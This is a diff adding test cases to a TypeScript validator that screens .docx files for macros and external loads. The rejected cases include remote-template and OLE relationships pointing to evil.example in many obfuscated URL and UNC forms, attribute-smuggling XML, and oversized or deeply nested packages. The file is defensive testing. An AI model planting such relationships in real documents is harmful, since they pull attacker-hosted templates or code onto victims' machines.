@@ -23,12 +23,27 @@ const document = (parts: Zippable = {}, contentTypes: string | Uint8Array = PLAI
 const utf16 = (text: string, mark = true) => new Uint8Array(Buffer.from(`${mark ? '\ufeff' : ''}${text}`, 'utf16le'))
 const sheet = (contentTypes = types()) =>
   zipSync({ '[Content_Types].xml': strToU8(contentTypes), 'xl/workbook.xml': strToU8('<workbook/>') })
+const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const relationship = (type: string, target: string) =>
+  `<Relationship Id="rId1" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`
+const found = (...relationships: readonly string[]) =>
+  document({
+    'word/_rels/settings.xml.rels': strToU8(
+      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join('')}</Relationships>`,
+    ),
+  })
+/** Links, at most so many bytes of them. */
+const linksOf = (bytes: number) => {
+  const link = relationship('hyperlink', 'https://cantho.gov.vn/van-ban/')
+  return link.repeat(Math.floor(bytes / link.length))
+}
+const MB = 1024 * 1024
 const disguised = types(override('/word/document.xml', MAIN), override('/word/notes.xml', VBA))
 const nested = (depth: number): Uint8Array =>
   depth === 0 ? document() : document({ 'word/embeddings/a.docx': nested(depth - 1) })
 
 describe('a document', () => {
-  it.each([
+  it.each<readonly [string, Uint8Array]>([
     ['as programs write it', document()],
     ['that is written in UTF-16', document({}, utf16(PLAIN.replace('UTF-8', 'UTF-16')))],
     [
@@ -46,12 +61,38 @@ describe('a document', () => {
       ),
     ],
     ['in a document in a document', nested(2)],
+    [
+      'with links',
+      found(
+        relationship('hyperlink', 'https://cantho.gov.vn/?a=1&amp;b=2'),
+        relationship('hyperlink', 'mailto:a@b.vn'),
+      ),
+    ],
+    ['with links to a share', found(relationship('hyperlink', '\\\\may-chu\\chung\\a.docx'))],
+    ['with very many links', found(linksOf(3 * MB))],
+    ['whose figures come from a sheet elsewhere', found(relationship('externalLinkPath', 'file:///\\may-chu\\a.xlsx'))],
+    ...[
+      'file:///C:\\Users\\an\\Templates\\Normal.dotm',
+      'file:///C:/Users/an/Normal.dotm',
+      'file:///Users/an/Normal.dotm',
+      'C:\\Mau\\cong-van.dotx',
+      'Normal.dotm',
+      '../mau/cong-van.dotx',
+      '/word/a.xml',
+    ].map(
+      (target) =>
+        [`whose template is its own machine’s: ${target}`, found(relationship('attachedTemplate', target))] as const,
+    ),
+    [
+      'whose relationship is written by another program',
+      found(`<r:Relationship Target='a.xml'\n Type = '${OFFICE}/settings' Id="x > y" ></r:Relationship>`),
+    ],
   ])('%s is taken', async (_what, bytes) => {
     expect(fileKindOf(bytes)).toBe('docx')
     expect(await isPlainOffice(bytes)).toBe(true)
   })
 
-  it.each([
+  it.each<readonly [string, Uint8Array]>([
     ['whose macros have the name of a text', document({ 'word/notes.xml': strToU8('x') }, disguised)],
     [
       'that says that it has macros',
@@ -97,6 +138,64 @@ describe('a document', () => {
       ),
     ],
     ['with a sheet that has macros', document({ 'word/embeddings/a.xlsx': sheet(types(override('/xl/a.xml', VBA))) })],
+    ...[
+      'http://evil.example/a.dotm',
+      'HTTPS://evil.example/a.dotm',
+      ' http://evil.example/a.dotm',
+      'ht\ntp://evil.example/a.dotm',
+      'mhtml:http://evil.example/a!x',
+      'ftp://evil.example/a',
+      'file://evil/share/a.dotm',
+      'file:////evil/share/a.dotm',
+      'file:///\\\\evil\\share\\a.dotm',
+      'file:///%5C%5Cevil/share/a.dotm',
+      'file:\\\\evil\\share\\a.dotm',
+      '\\\\evil\\share\\a.dotm',
+      '/\\evil/share/a.dotm',
+      '//evil/share/a.dotm',
+    ].map(
+      (target) =>
+        [`whose template is another machine’s: ${target}`, found(relationship('attachedTemplate', target))] as const,
+    ),
+    ...['frame', 'image', 'subDocument', 'aFChunk', 'mailMergeSource', 'oleObject'].map(
+      (type) =>
+        [`that loads from another machine: ${type}`, found(relationship(type, 'http://evil.example/a'))] as const,
+    ),
+    [
+      'whose template is named by another prefix, after a link',
+      found(
+        relationship('hyperlink', 'https://cantho.gov.vn'),
+        relationship('attachedTemplate', 'http://evil.example').replace('<', '<r:'),
+      ),
+    ],
+    [
+      'whose template hides its address in another value',
+      found(
+        `<Relationship Id=" Target='" Target="http://evil.example/" Type="${OFFICE}/attachedTemplate" TargetMode="External" a="'"/>`,
+      ),
+    ],
+    [
+      'whose template calls itself a link in another value',
+      found(
+        `<Relationship Id=' Type="${OFFICE}/hyperlink"' Target="http://evil.example/" Type="${OFFICE}/attachedTemplate"/>`,
+      ),
+    ],
+    [
+      'whose template says twice what it is',
+      found(
+        `<Relationship Type="${OFFICE}/attachedTemplate" Target="http://evil.example/" Type="${OFFICE}/hyperlink"/>`,
+      ),
+    ],
+    [
+      'whose template is no XML',
+      found(`<Relationship Type="${OFFICE}/attachedTemplate" Target=http://evil.example/ />`),
+    ],
+    ['with more links than anybody reads', found(linksOf(5 * MB))],
+    ['whose parts are declared without end', document({}, `${PLAIN}${' '.repeat(5 * MB)}`)],
+    [
+      'whose links are too many together',
+      document({ 'word/_rels/a.xml.rels': strToU8(linksOf(3 * MB)), 'word/embeddings/a.docx': found(linksOf(3 * MB)) }),
+    ],
     ['that has no end', nested(3)],
     ['that grows without end', document({ 'word/embeddings/a.txt': new Uint8Array(64 * 1024 * 1024) })],
   ])('%s is not', async (_what, bytes) => {
